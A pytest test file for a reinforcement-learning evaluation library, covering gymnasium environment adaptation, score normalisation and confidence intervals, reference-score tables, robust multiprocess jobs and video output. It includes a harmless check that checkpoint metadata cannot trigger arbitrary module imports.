def register():
    """Registers a world with gymnasium for the length of a test; returns its id."""
    names = []

    def add(observation, action, **kwargs):
        names.append(f"Odd{len(names)}-v0")
        gym.register(names[-1], entry_point=odd_world(observation, action), **kwargs)
        return names[-1]
    yield add
    for name in names:
        gym.registry.pop(name)


def test_gym_worlds_are_adapted(register, tmp_path, monkeypatch):
    """Actions stretched to the world's range, step by step; pictures; names; a limit of time."""
    assert all(getattr(worlds, name) == getattr(lram, name)
               for name in ("STATE_WIDTH", "MAX_DISCRETE", "MAX_DIMS"))
    raw, ours = gym.make("Pendulum-v1"), worlds.make_env("gym:Pendulum-v1")
    assert np.array_equal(raw.reset(seed=3)[0], ours.reset(seed=3)[0])
    for action in np.linspace(-1, 1, 200, dtype=np.float32)[:, None]:
        theirs, mine = raw.step(2 * action), ours.step(action)              # torque in [-2, 2]
        assert np.array_equal(theirs[0], mine[0]) and mine[0].dtype == np.float32
        assert np.isclose(theirs[1], mine[1]) and theirs[2:4] == mine[2:4]
    assert mine[3]                                                          # its own limit: 200
    box = gym.spaces.Box(np.array([[-3.0, 0.0]]), np.array([[1.0, 10.0]]), dtype=np.float64)
    picture = gym.spaces.Box(0, 255, (90, 120, 3), np.uint8)
    env = worlds.make_env(f"gym:{register(picture, box)}")
    obs, info = env.reset(seed=0)
    assert obs.shape == (1, 64, 64) and obs.dtype == np.uint8 and info == {}
    for action, wanted in (([-1, -1], [-3, 0]), ([1, 1], [1, 10]), ([0, 0.5], [-1, 7.5])):
        env.step(np.array(action, np.float32))
        assert env.unwrapped.got.shape == (1, 2) and np.allclose(env.unwrapped.got, wanted)
    assert [env.step(np.zeros(2))[3] for _ in range(1000)].index(True) == 1000 - 4
    shifted = gym.spaces.Discrete(3, start=5)
    both = gym.spaces.Dict({"a": gym.spaces.Discrete(4), "b": gym.spaces.Box(0, 1, (2, 3))})
    env = worlds.make_env(f"gym:{register(both, shifted)}")
    assert env.reset(seed=0)[0].shape == (10,) and env.action_space == gym.spaces.Discrete(3)
    env.step(2)
    assert env.unwrapped.got == 7
    (tmp_path / "mine.py").write_text(
        "import gymnasium as gym\nfrom gymnasium.envs.classic_control import CartPoleEnv\n"
        "gym.register('Mine-v0', CartPoleEnv)\n")
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.setattr(sys, "argv", ["eval.py", "--tasks=gym:mine:Mine-v0"])
    assert worlds.make_env("gym:mine:Mine-v0").observation_space.shape == (4,)
    names = worlds.expand_tasks(["gym:CartPole-v1", "gym/CartPole-v1", "gym:mine:Mine-v0"])
    assert names == ("gym/CartPole-v1", "gym/mine:Mine-v0")
    assert [worlds.domain_of(t) for t in (*names, "atari/pong")] == [*names, "atari"]
    gym.registry.pop("Mine-v0")


def test_a_card_cannot_have_a_module_imported(tmp_path, monkeypatch, capsys):
    """Of a checkpoint or a folder of data; by a command in a fresh process, as a user has it."""
    (tmp_path / "datasets").mkdir()
    (tmp_path / "datasets" / "stats.py").write_text("open('witness', 'w')")
    task, model = "gym/datasets.stats:Pick-v0", lram.LRAM(lram.Config("mlstm", "tiny", layers=1))
    lram.save_checkpoint(tmp_path / "c.pt", {
        "model": model.state_dict(), "model_config": asdict(model.config),
        "cards": {task: dark_card(task=task, made_by="us"), "darkroom/train": dark_card()}})
    done = run(REPOSITORY / "eval.py", "--checkpoint", "c.pt", "--episodes", "1", cwd=tmp_path)
    assert "a module is imported only if the command line names it" in done.stdout + done.stderr
    assert not (tmp_path / "witness").exists()
    folder = write_task(tmp_path / "d", [9, 9], task=task)
    (folder / "task.json").unlink()
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(tmp_path)
    data.Mixture("d", [task])                           # makes a card, for which it asks the world
    assert not (tmp_path / "witness").exists()
    monkeypatch.setattr(sys, "argv", ["eval.py", "--tasks", "gym:datasets.stats:Pick-v0"])
    worlds.world_spec(task)
    assert (tmp_path / "witness").exists()              # it would have been


BOX = gym.spaces.Box(-1, 1, (3,))


@pytest.mark.parametrize("observation,action,words", (
    (BOX, gym.spaces.Discrete(19), r"actions are Discrete\(19\); expected at most"),
    (BOX, gym.spaces.Box(-np.inf, 1, (2,)), r"Box\(2,\) float32, not bounded; expected Discrete"),
    (BOX, gym.spaces.Box(-1, 1, (9,)), r"Box\(9,\) float32; expected Discrete.*at most 8"),
    (BOX, gym.spaces.MultiBinary(2), r"MultiBinary\(2\); expected"),
    (gym.spaces.Box(-1, 1, (205,)), BOX, r"Box\(205,\) float32; expected at most 204"),
    (gym.spaces.Sequence(BOX), BOX, "observations are Sequence")))
def test_gym_worlds_that_do_not_fit_are_refused(observation, action, words, register):
    """With what was given and what was expected; an unknown id with the nearest one."""
    with pytest.raises(SystemExit, match=words):
        worlds.make_env(f"gym:{register(observation, action)}")
    with pytest.raises(SystemExit, match="nearest: CartPole-v1"):
        worlds.make_env("gym:CartPol-v1")


def test_gym_worlds_of_odd_kinds(register):
    """Without a render_mode it is played; a space that gymnasium cannot flatten is refused."""
    class Plain(gym.Env):
        observation_space = gym.spaces.Box(-1, 1, (2,), np.float32)
        action_space = gym.spaces.Discrete(2)

        def __init__(self):
            pass
    gym.register("NoPictures-v0", entry_point=Plain)
    try:
        assert worlds.make_env("gym:NoPictures-v0").observation_space.shape == (2,)
    finally:
        del gym.registry["NoPictures-v0"]
    mission = type("MissionSpace", (gym.spaces.Space,), {})
    space = gym.spaces.Dict({"image": gym.spaces.Box(0, 255, (3,)), "mission": mission()})
    with pytest.raises(SystemExit, match="observations are Dict.*expected at most 204 numbers"):
        worlds.make_env("gym:" + register(space, gym.spaces.Discrete(2)))


# ------------------------------------------------------------------------------------------ scores
def test_scores():
    """Normalised, averaged over tasks and then domains, with an interval that holds the mean."""
    def result(returns, **card):
        return {"returns": returns,
                "card": dark_card(reference_score=10.0, random_score=2.0, **card)}
    results = {"a/x": result([10.0, 10.0]), "a/y": result([2.0, 6.0]),
               "b/z": result([2.0, 2.0, 2.0, 10.0]), "b/held": result([100.0], heldout=True)}
    summary = worlds.summarise(results)
    assert summary["tasks"]["a/y"]["score"] == 0.25
    assert summary["domains"] == {"a": 0.625, "b": 0.25}
    assert summary["mean_over_domains"] == 0.4375           # held out: not in the means
    low, high = summary["interval"]
    assert low < 0.4375 < high
    assert summary["heldout"]["domains"] == {"b": 12.25}    # but in means of their own
    assert summary["heldout"]["domain_scores"]["b"]["interval"] == [12.25, 12.25]
    assert summary["domain_scores"]["b"]["interquartile_mean"] == 0.0       # the record is cut off
    low, high = summary["domain_scores"]["a"]["interval"]
    assert low == summary["tasks"]["a/y"]["interval"][0] / 2 + 0.5 == 0.5   # x is always 1
    assert [row["above_random"] for row in summary["tasks"].values()] == [True, False, False, True]
    scipy_stats = pytest.importorskip("scipy.stats")
    scores = np.random.RandomState(0).normal(size=203)
    assert np.isclose(worlds.interquartile_mean([scores[:50], scores[50:]]),
                      scipy_stats.trim_mean(scores, 0.25))
    low, high = worlds.bootstrap_interval([scores], lambda g: g[0].mean(-1))
    exact = scipy_stats.norm.interval(0.95, scores.mean(), scores.std() / len(scores) ** 0.5)
    assert np.allclose([low, high], exact, atol=0.02)


def test_intervals_redraw_what_scores_0_and_1():
    """The width follows from the three variances (delta method); cards without returns say so."""
    rng = np.random.RandomState(0)
    for level in (7, 2):                        # near the reference, near random
        returns, random, reference = (rng.normal(m, 2.0, n) for m, n in ((level, 200), (1, 30),
                                                                         (9, 20)))
        card = dark_card(random_score=random.mean(), reference_score=reference.mean())
        kept = {**card, "random_returns": random.tolist(), "reference_returns": reference.tolist()}
        wide, narrow = (worlds.summarise({"a/x": {"returns": returns.tolist(), "card": c}})
                        for c in (kept, card))
        span = reference.mean() - random.mean()
        score = (returns.mean() - random.mean()) / span
        variance = lambda x: x.var() / len(x) / span ** 2
        for summary, squared in ((narrow, variance(returns)), (wide, variance(returns)
                                 + (1 - score) ** 2 * variance(random)
                                 + score ** 2 * variance(reference))):
            for low, high in (summary["tasks"]["a/x"]["interval"], summary["interval"]):
                assert np.isclose(high - low, 2 * 1.96 * squared ** 0.5, rtol=0.08)
            assert np.isclose(summary["tasks"]["a/x"]["score"], score)
    assert "as exact, as only its mean is known, in 1 of 1 tasks: a/x" in \
        worlds.format_table(narrow)
    assert "exact" not in worlds.format_table(wide)
    # a random policy that is not known exactly is harder to be better than
    close = {"returns": [1.2] * 9,
             "card": {**kept, "reference_returns": [9.0], "reference_score": 9.0}}
    assert not worlds.summarise({"a/x": close})["tasks"]["a/x"]["above_random"]


@pytest.mark.parametrize("task", ("darkroom/train", "darkroom/heldout"))
def test_the_expert_scores_1_on_any_goals(task, tmp_path, monkeypatch):
    """However few episodes are played, and from which seed: its reference is of these goals."""
    monkeypatch.setattr(data, "run_jobs", lambda jobs, processes, start, timeout: (
        (job, start()(job, lambda steps: None)) for job in reversed(jobs)))
    data.make(["darkroom/train"], tmp_path, ["darkroom/heldout"], episodes=1)
    card = {**data.load_card(tmp_path / task), "heldout": False}
    row, col = worlds.make_env(task).goals.T
    swept = 100 - row * 10 - np.where(row % 2 == 0, col, 9 - col)       # 100 - place in the sweep
    assert card["reference_returns"] == np.resize(swept, 80).tolist()
    monkeypatch.setattr(worlds, "agent_policy",
                        lambda envs, agent: data.expert_policy(envs, data.DarkRoomExpert))
    for episodes, seed in ((1, 7), (5, worlds.EVALUATION_SEED), (33, 60)):
        played = worlds.play(small_model("mlstm"), {task: card}, episodes, seed, quiet=True)
        score = worlds.summarise(played)["tasks"][task]
        assert np.allclose([score["score"], *score["interval"]], 1.0, rtol=0, atol=1e-12)


def test_a_score_plays_what_it_should(monkeypatch, capsys):
    """Episode k from seed + k, in the world that the card's limit cuts; what had ended before a
    simulator's error is told.
    """
    class Once(gym.Env):
        observation_space, action_space = (gym.spaces.Box(-9, 9, (2,), np.float32),
                                           gym.spaces.Discrete(5))
        breaks, seeds = None, []

        def reset(self, *, seed=None, options=None):
            self.seeds.append(seed)
            if seed == self.breaks:
                raise ValueError("the simulator is broken")
            return np.zeros(2, np.float32), {}

        def step(self, action):
            return np.zeros(2, np.float32), 3.0, True, False, {}
    asked = []
    monkeypatch.setattr(worlds, "make_env", lambda task, limit: asked.append(limit) or Once())
    card = {"darkroom/train": dark_card(limit=17, made_by="us")}
    play = partial(worlds.play, small_model("mlstm"), card, seed=50, num_envs=2, quiet=True)
    result = play(5)["darkroom/train"]
    assert sorted({*Once.seeds}) == result["seeds"] == [50, 51, 52, 53, 54] and {*asked} == {17}
    Once.breaks = 53
    failed = play(5)["darkroom/train"]["failed"]
    assert "the simulator is broken" in failed
    assert "2 of 5 episodes had ended, mean return 3.0, in no score" in failed
    for episodes, envs in ((0, 1), (-1, 1), (1, 0)):
        with pytest.raises(SystemExit, match="give 1 or more of each"):
            play(episodes, num_envs=envs)


def test_the_best_constant_action_is_measured_on_fresh_seeds():
    """The best of few episodes may owe it to luck; where all were played nothing is left to do."""
    few = {"random": {0: 0.0, 1: 0.0, 2: 0.0}, 0: {70: 1.0}, 1: {70: 9.0}}
    assert data._best_constant(few) == [(1, [71]), (1, [72]), (1, [73])]
    assert data._best_constant({**few, 0: dict.fromkeys(range(3), 1.0),
                                1: dict.fromkeys(range(3), 2.0)}) == []
    assert data._best_constant({"random": {0: 0.0}}) == []          # continuous actions


def test_scores_without_a_scale():
    """No reference, or one that is not above random: raw, with the reason, and in no mean."""
    def result(returns, random, reference, **card):
        return {"returns": returns,
                "card": dark_card(reference_score=reference, random_score=random, **card)}
    results = {"a/fine": result([4.0, 6.0], 0.0, 10.0), "a/zero": result([4.0, 6.0], 3.0, 3.0),
               "a/below": result([4.0], 8.0, 5.0), "a/none": result([4.0], None, None),
               "b/none": result([1.0], 1.0, None), "a/broken": {"failed": "it broke", "card": {}}}
    summary = json.loads(json.dumps(worlds.summarise(results)))
    assert summary["domains"] == {"a": 0.5} and summary["mean_over_domains"] == 0.5
    rows = summary["tasks"]
    assert {t: r["score"] for t, r in rows.items()} == {
        "a/fine": 0.5, "a/zero": None, "a/below": None, "a/none": None, "b/none": None}
    assert rows["a/zero"]["unscored"] == "reference 3 not above random 3"
    assert rows["a/none"]["unscored"] == rows["b/none"]["unscored"] == "no reference"
    assert rows["a/zero"]["mean_return"] == 5.0 and rows["a/none"]["above_random"] is None
    assert rows["a/zero"]["above_random"] and not rows["a/below"]["above_random"]
    table = worlds.format_table(summary)
    assert "a/broken failed: it broke" in table and "1 task failed" in table
    assert "a/below: raw return only, in no mean (reference 5 not above random 8)" in table
    assert worlds.format_table(worlds.summarise({"a/b": {"failed": "it broke"}}))   # nothing else
    raw = worlds.summarise({"a/none": result([4.0], None, None)})
    assert "raw return only" in worlds.format_table(raw) and "mean_over_domains" not in raw
    # the same returns by the paper's tables
    results = {"atari/pong": result([-3.05], -21.0, 21.0),
               "atari/carnival": result([1.0], 0.0, 2.0),
               "dmcontrol/walker-run": result([344.794], 0.0, 34.4794, heldout=True)}
    scores = lambda by: [r["score"] for r in worlds.summarise(results, by)["tasks"].values()]
    assert np.allclose(scores("data"), [17.95 / 42, 0.5, 10.0])
    pong, carnival, walker = scores("public")
    assert np.isclose(pong, 0.5) and carnival is None and walker == 1.0
    pong, carnival, walker = scores("human")
    assert np.isclose(pong, 0.5) and carnival is None and np.isclose(walker, 10.0)


def test_reference_scores():
    """Rows copied by hand, and for each domain how many numbers there are and their sums."""
    assert worlds.reference_scores("metaworld/reach-v3") == \
        (147.103, 1905.1068, 1905.1068, "data maximum")
    assert worlds.reference_scores("dmcontrol/acrobot-swingup") == \
        (8.351, 4.877, 158.764, "data mean")                # a reference below random
    assert worlds.reference_scores("procgen/fruitbot") == (-7.0, 16.9643, 38.0, "data mean")
    assert worlds.reference_scores("atari/ms_pacman") == (307.3, 6951.6, 403.0, "human")
    assert worlds.reference_scores("atari/skiing") == (-17098.1, -4336.9, None, "human")
    assert worlds.reference_scores("atari/pooyan") == (None, None, 427.0, "human")
    assert worlds.reference_scores("composuite/Panda_Box_ObjectWall_PickPlace") == \
        (1.4694, 338.1854, 338.1854, "data maximum")
    assert worlds.reference_scores("composuite/Jaco_Dumbbell_None_Shelf")[0] == 49.8153
    assert worlds.reference_scores("mimicgen/Sawyer_Coffee_D1") == (0.0, 1.0, 1.0, "data maximum")
    assert worlds.reference_scores("mimicgen/UR5e_Kitchen_D1") == (None, None, 1.0, "data maximum")
    assert worlds.reference_scores("darkroom/train") is None
    card = dark_card(clip_rewards=True, random_score=2.0, reference_score=3.0)
    assert worlds.anchors("atari/freeway", card) == (2.0, 3.0, None)        # measured, in points
    assert worlds.anchors("atari/freeway", card | {"source": "downloaded"}) == (0.0, 29.6, None)
    table, found = worlds.reference_table(), {}
    for domain in ("metaworld", "dmcontrol", "procgen", "atari", "composuite", "mimicgen"):
        rows = [row[:3] for task, row in table.items() if task.startswith(domain)]
        found[domain] = [len(rows)]
        for column in zip(*rows):
            known = [x for x in column if x is not None]
            found[domain] += [len(known), sum(known)]
    assert sum(counts[0] for counts in found.values()) == len(table)
    for domain, numbers in {
            "metaworld": [50, 50, 2118.0511, 50, 83025.0665, 50, 83025.0665],
            "dmcontrol": [27, 27, 1331.945, 27, 11633.341, 27, 19879.077],
            "procgen": [16, 16, -7.0, 16, 130.8902, 16, 313.3128],
            "atari": [59, 57, 50864.9, 57, 606494.2, 46, 12218.0],
            "composuite": [256, 256, 4807.9262, 256, 93519.3823, 256, 93519.3823],
            "mimicgen": [85, 43, 0.0, 43, 43.0, 85, 85.0]}.items():
        assert np.allclose(found[domain], numbers, rtol=0, atol=1e-6), domain
    # every task of the paper that is in our task table has a row
    for domain in ("metaworld", "dmcontrol", "atari"):
        row = worlds.DOMAINS[domain]
        assert all(f"{domain}/{name}" in table for name in row.tasks + row.heldout)


JOBS = """
import ctypes, faulthandler, os, signal, sys, time
if "--multiprocessing-fork" in sys.orig_argv and os.environ.get("DIES"):
    os._exit(7)
def start():
    return do
def broken():
    raise ImportError("libGL.so.1")
def do(job, advance):
    if job == "raises":
        raise KeyError("a reason")
    if job == "exits":
        sys.exit("no simulator")
    if job == "crashes":
        faulthandler.disable()
        ctypes.string_at(0)
    if job == "killed":
        os.kill(os.getpid(), signal.SIGKILL)
    if job == "hangs":
        time.sleep(1e6)
    if job == "slow":                       # longer than the timeout, but with signs of life
        for k in range(12):
            time.sleep(0.6)
            advance(12 * (k == 11))
    return job * 2
"""


@pytest.fixture
def some_jobs(tmp_path, monkeypatch):
    """JOBS, which other processes can import too."""
    (tmp_path / "some_jobs.py").write_text(JOBS)
    monkeypatch.syspath_prepend(tmp_path)
    sys.modules.pop("some_jobs", None)
    import some_jobs
    return some_jobs


@pytest.mark.parametrize("method", ("spawn", "fork") if sys.platform == "linux" else ("spawn",))
def test_jobs_that_crash_or_hang_are_named(method, some_jobs):
    """Among good jobs: every good result arrives, every bad job comes back with what it died of,
    and no process is left, a dead one neither.
    """
    jobs, steps = ["a", "raises", "hangs", "slow", "exits", "crashes", "killed", "b"], []
    found = list(worlds.run_jobs(jobs, 2, some_jobs.start, 6.0, steps.append, method))
    assert sorted(job for job, _ in found) == sorted(jobs)              # each exactly once
    found = dict(found)
    assert [found.pop(job) for job in ("a", "b")] == ["aa", "bb"]
    assert found.pop("slow") == "slowslow" and sum(steps) == 12
    for job, words in (("raises", "KeyError: 'a reason' .some_jobs.py, line"),
                       ("exits", "^no simulator$"), ("crashes", "SIGSEGV"), ("killed", "SIGKILL"),
                       ("hangs", "no step for 6 s")):
        assert type(found[job]) is RuntimeError and re.search(words, str(found[job]))
    running = worlds.run_jobs(["a", "hangs", "hangs"], 2, some_jobs.start, method=method)
    next(running)
    running.close()                                                     # left early
    for stat in Path("/proc").glob("[0-9]*/stat"):                  # nothing where there is none
        with contextlib.suppress(OSError):                          # processes of others end
            parent = int(stat.read_text().rpartition(")")[2].split()[1])
            left = (stat.parent / "cmdline").read_text()
            assert parent != os.getpid() or "resource_tracker" in left, left


def test_processes_that_cannot_start_end_the_work(some_jobs, monkeypatch):
    """With one message, not one for each job, whether start() raises or an import kills them."""
    jobs = list(range(40))
    with pytest.raises(SystemExit, match="cannot start: ImportError: libGL.so.1 .some_jobs.py"):
        list(worlds.run_jobs(jobs, 2, some_jobs.broken))
    monkeypatch.setenv("DIES", "1")
    with pytest.raises(SystemExit, match="die before they begin"):
        list(worlds.run_jobs(jobs, 2, some_jobs.start))
    assert list(worlds.run_jobs([], 2, some_jobs.start)) == []


def test_workers_act_where_the_model_is(tmp_path, monkeypatch):
    """On its device and through the same kernels; torchrun's processes have workers too, so that a
    crash does not leave the others waiting.
    """
    model, seen = small_model("mlstm"), []
    monkeypatch.setattr(worlds, "score_task", lambda model, *_: next(model.parameters()).device)
    monkeypatch.setattr(lram, "use_kernels", lambda model, choice: seen.append(choice))

    def in_process(jobs, processes, start, *_):
        return ((job, pickle.loads(pickle.dumps(start))()(job, None)) for job in jobs)
    monkeypatch.setattr(worlds, "run_jobs", in_process)
    device_of = lambda: [d.type for _, d in worlds._score_jobs(model, [("a",)], 2, 1.0, None)]
    assert device_of() == ["cpu"] and seen == ["torch"]
    model.to("meta").backbone.blocks[0].cell = mock.Mock(__module__="kernels")
    assert device_of() == ["meta"] and seen == ["torch", "triton"]
    run = mock.Mock(rank=0, world=2)
    run.mixture.cards = {"a/x": dark_card()}
    run.gather = lambda value: [value]
    played = mock.Mock(return_value={"a/x": {"returns": [1.0], "card": dark_card()}})
    monkeypatch.setattr(train, "play", played)
    train.score(run)
    assert played.call_args[1]["processes"] == 2


def test_a_failed_task_does_not_stop_an_evaluation(tmp_path, monkeypatch, capsys):
    """It is named, the others are scored, scores.json is written, and the exit code is 1."""
    model = lram.LRAM(lram.Config("mlstm", "tiny", context=5))
    good = dark_card(random_score=0.0, reference_score=10.0, made_by="us")
    cards = {"darkroom/train": good, "darkroom/none": good, "darkroom/heldout": good}
    lram.save_checkpoint(tmp_path / "c.pt", {"model": model.state_dict(), "cards": cards,
                                             "model_config": asdict(model.config)})
    for processes in (1, 2):
        out = tmp_path / "new" / f"scores{processes}.json"
        with pytest.raises(SystemExit) as end:
            worlds.main(worlds.Args(checkpoint=tmp_path / "c.pt", episodes=2, output=out,
                                    processes=processes))
        assert end.value.code == 1 and "1 task failed" in capsys.readouterr().out
        summary = json.loads(out.read_text())
        assert list(summary["tasks"]) == ["darkroom/train", "darkroom/heldout"]
        assert "split is 'none'" in summary["failed"]["darkroom/none"]
    assert json.loads((tmp_path / "new/scores1.json").read_text()) == summary     # in either way


def test_a_failed_job_leaves_its_task_incomplete(tmp_path, monkeypatch, capsys):
    """data.make names it, makes the rest, and the next call completes the task."""
    def disturbed(jobs, processes, start, timeout):
        do = start()
        for job in jobs:
            broken = job[1] == "darkroom/train" and 10 in job[2][-1]
            yield job, RuntimeError("it broke") if broken else do(job, lambda steps: None)
    with monkeypatch.context() as patch:
        patch.setattr(data, "run_jobs", disturbed)
        assert data.make(["darkroom/train", "darkroom/heldout"], tmp_path, episodes=11) == \
            ["darkroom/heldout"]
    told = capsys.readouterr().err
    assert "darkroom/train, episodes, seeds 10 to 71: failed: it broke" in told
    assert "darkroom/train is incomplete" in told
    assert not (tmp_path / "darkroom/train/task.json").exists()
    assert len(list((tmp_path / "darkroom/train").glob("*.hdf5"))) == 10
    assert data.make(["darkroom"], tmp_path, episodes=11, processes=1) == ["darkroom/train"]
    assert len(list((tmp_path / "darkroom/train").glob("*.hdf5"))) == len(data.seeds_of(11)) == 16


def test_asking_for_more_takes_nothing_away(tmp_path, monkeypatch, capsys):
    """A simulator that breaks at one seed, always: what was there is trained on as before, with its
    card and its pack; asking for what can be made completes it.
    """
    def disturbed(jobs, processes, start, timeout=0, method=None):
        do = start()
        for job in jobs:
            broken = job[0] is data._make_episodes and 7 in job[2][-1]
            yield job, RuntimeError("it broke") if broken else do(job, lambda steps: None)
    monkeypatch.setattr(data, "run_jobs", disturbed)
    monkeypatch.setitem(data.RECIPES, "darkroom", replace(data.RECIPES["darkroom"], chunk=1))
    make, folder = partial(data.make, ["darkroom/train"], tmp_path), tmp_path / "darkroom/train"
    assert make(episodes=4) == ["darkroom/train"]
    data.pack(tmp_path)
    names = data.episodes_in(folder)
    read = lambda: data.Mixture(tmp_path, ["darkroom/train"]).fingerprint
    before, kept = read(), {path: path.read_bytes() for path in folder.iterdir()}
    for _ in range(2):
        assert make(episodes=12) == ["darkroom/train"]
        assert "it broke" in capsys.readouterr().err and read() == before
        assert all(path.read_bytes() == content for path, content in kept.items())
    assert len(data.episodes_in(folder)) > len(names) + 6
    monkeypatch.setattr(data, "seeds_of", lambda n: range(7))
    assert make(episodes=7) == ["darkroom/train"] and data.check(folder) == 1      # the pack is old
    data.pack(tmp_path)
    assert data.check(folder) == 0
    with open(folder / "task.json") as f:
        assert list(json.load(f)["versions"]) == ["gymnasium", "numpy"]


def test_a_task_that_its_expert_never_solves_is_left_out(tmp_path, monkeypatch, capsys):
    """Without a card, which would promise data to train on."""
    recipe = replace(data.RECIPES["darkroom"], success_only=True)       # Dark-Room knows no success
    monkeypatch.setitem(data.RECIPES, "darkroom", recipe)
    monkeypatch.setattr(data, "run_jobs", lambda jobs, processes, start, timeout: (
        (job, start()(job, lambda steps: None)) for job in jobs))
    assert data.make(["darkroom/train"], tmp_path, episodes=2) == []
    assert "darkroom/train left out: its expert solved none" in capsys.readouterr().err
    assert not (tmp_path / "darkroom/train/task.json").exists()


def test_video_of_a_world(tmp_path, capsys):
    """Without a checkpoint: the return of the sweep follows from its goal; every second step."""
    from PIL import Image
    path, env = tmp_path / "new" / "sweep.gif", worlds.make_env("darkroom/train")
    row, col = env.reset(seed=worlds.EVALUATION_SEED + 3)[1]["goal"]
    worlds.main(worlds.Args(video=path, tasks=("darkroom/train",), policy="expert",
                            seed=worlds.EVALUATION_SEED + 3))
    swept = row * 10 + (col if row % 2 == 0 else 9 - col)
    assert f"50 frames, return {100 - swept:.1f}" in capsys.readouterr().out
    with Image.open(path) as gif:
        assert gif.size == (160, 160)
    with pytest.raises(SystemExit, match="for example: --video"):
        worlds.main(worlds.Args(policy="random"))
    with pytest.raises(SystemExit, match="animated GIF, for example .*sweep.gif"):
        worlds.main(worlds.Args(video=path.with_suffix(".mp4"), tasks=("darkroom/train",),
                                policy="random"))
    with pytest.raises(SystemExit, match="gym/CartPole-v1: there is no expert .*bring"):
        worlds.main(worlds.Args(video=path, tasks=("gym:CartPole-v1",), policy="expert"))
    with mock.patch("gymnasium.envs.classic_control.cartpole.CartPoleEnv.render",
                    side_effect=gym.error.DependencyNotInstalled("pip install pygame")):
        with pytest.raises(SystemExit, match="gym/CartPole-v1: pip install pygame"):
            worlds.main(worlds.Args(video=path, tasks=("gym:CartPole-v1",), policy="random"))


def test_a_video_lasts_as_long_as_the_episode(monkeypatch, tmp_path):
    """100 steps are 10 s, in few pictures too; Atari's steps are 4 frames of 60 a second."""
    from PIL import Image
    for most, longest in ((600, 0.2), (10, 1.6)):
        monkeypatch.setattr(worlds._FrameGrabber, "MOST", most)
        worlds.record_video(worlds.random_policy, "darkroom/train", tmp_path / "it.gif")
        seconds = []
        with Image.open(tmp_path / "it.gif") as gif:
            for k in range(gif.n_frames):
                gif.seek(k)
                seconds.append(gif.info["duration"] / 1000)
        assert len(seconds) <= most and 10 <= round(sum(seconds), 3) < 10 + longest
    if not worlds.unavailable("atari/freeway"):
        assert worlds.make_env("atari/freeway").metadata["render_fps"] == 60 / 4


def test_two_agents_side_by_side_on_a_short_episode(monkeypatch):
    """Of few steps each counts for the median, where otherwise the first warm up."""
    make = worlds.make_env
    monkeypatch.setattr(worlds, "make_env", lambda task: make(task, limit=3))
    agents = [lram.Agent(small_model("mlstm"), dark_card()) for _ in range(2)]
    first, second, same, times = worlds.side_by_side(agents, "darkroom/train", 0)
    assert first.shape == second.shape == (3, 18) and 0 <= same <= 1 and (times > 0).all()


def test_comparison_of_runs(tmp_path, capsys):
    """The runs that README's first table came from, and rows without a score."""
    ledger = json.loads((REPOSITORY / "figures/results.json").read_text())
    (tmp_path / "old.json").write_text(json.dumps(ledger["first run"]["runs"]))
    worlds.compare([tmp_path / "old.json"], tmp_path / "old.png")
    assert "| metaworld/reach-v3 | 0.91 (0.87 to 0.95) |" in capsys.readouterr().out
    card = dark_card(random_score=None, reference_score=None)
    other = {"returns": [1.0, 3.0], "card": {**card, "random_score": 0.0, "reference_score": 4.0}}
    summary = worlds.summarise({"a/raw": {"returns": [2.5], "card": card}, "a/fine": other})
    (tmp_path / "scores.json").write_text(json.dumps(summary))
    worlds.compare([tmp_path / "scores.json"], tmp_path / "new.png")
    out = capsys.readouterr().out
    assert "| a/raw | return 2.5 | " in out and "| a/fine | 0.50 (" in out
    assert all((tmp_path / name).stat().st_size > 1000 for name in ("old.png", "new.png"))
    # runs of one folder, and of folders of one name: none is lost
    for name in ("a.json", "b.json", "x/mlstm/scores.json", "y/mlstm/scores.json"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(json.dumps(summary))
    worlds.compare([tmp_path / f"{name}.json" for name in ("a", "b", "x/mlstm/scores",
                                                           "y/mlstm/scores")], None)
    head = capsys.readouterr().out.splitlines()[0]
    assert head.startswith("| task | a | b | mlstm | mlstm (") and "y/mlstm/scores.json) | " in head


# --------------------------------------------------------------------------------- inside the model
@pytest.mark.parametrize("backbone", RECURRENT)
def test_half_lives_of_gates_set_by_hand(backbone, tmp_path):
    """ln 2 / -log(what a token keeps), 3 tokens a step, and the recurrence is left as it was."""
    model = small_model(backbone)
    with torch.no_grad():
        for block in model.backbone.blocks:
            if isinstance(block, mlstm.MLSTMBlock):
                block.gates.weight.zero_()
                block.gates.bias[4:] = torch.tensor([0.0, 2.0, 40.0, 200.0])
            elif isinstance(block, slstm.SLSTMBlock):
                block.R.zero_(), block.W.zero_()
                block.bias[1] = torch.arange(4.0)[:, None]
            else:
                block.dt.weight.zero_(), block.dt.bias.fill_(-2.0)
    cells = lambda: [vars(b).get("cell", vars(b).get("scan")) for b in model.backbone.blocks]
    before, found = cells(), worlds.inspect(model, dark_card(limit=12))
    assert cells() == before and None not in before
    for layer, x in found["layers"].items():
        half = x["half_life"]
        if x["kind"] == "MambaBlock":
            A = torch.exp(model.backbone.blocks[layer].A_log.detach().double())
            truth = math.log(2) / (math.log1p(math.exp(-2)) * A.flatten()[None]) / 3
        elif x["kind"] == "MLSTMBlock":
            truth = [[1 / 3], [math.log(2) / math.log1p(math.exp(-2)) / 3],
                     [math.log(2) * math.exp(40) / 3], [math.inf]]
            assert np.isinf(half[3]).all() and np.allclose(x["forget"][1, :, :, 0], 0.5)
            half, truth = half[:3], truth[:3]
        else:
            truth = [[math.log(2) / math.log1p(math.exp(-g)) / 3] * 8 for g in range(4)]
        assert np.allclose(half, truth, rtol=1e-5)
    worlds.draw_inspection(found, model, "darkroom/train", tmp_path / "new" / "a.png")
    text, summary = worlds.format_inspection(found)
    json.dumps(summary, allow_nan=False)
    assert "infinite" in text or backbone not in ("mlstm", "xlstm")


def test_recorded_gates_of_slstm_are_those_applied():
    """One unit a head, so that quantiles are values: n_t = sigmoid(f) n_{t-1} + exp(i), no m."""
    model = small_model("slstm", heads=32, layers=1).double()
    with worlds.record_gates(model) as calls, torch.no_grad():
        _, state = model.backbone(torch.randn(1, 5, 32).double())
        _, ((_, _, n, m, _),) = model.backbone(torch.randn(1, 7, 32).double(), state)
    truth = torch.zeros(32).double()
    for call in calls[0]:
        for forget, write in zip(call["forget"][1], call["write"][1]):
            truth = forget * truth + torch.exp(write)
    assert len(calls[0]) == 2 and relative((n * torch.exp(m))[0, :, 0], truth) < 1e-12


@pytest.mark.parametrize("backbone", ("mlstm", "mamba", "gpt"))
def test_a_disturbed_observation_acts_from_its_step_on(backbone):
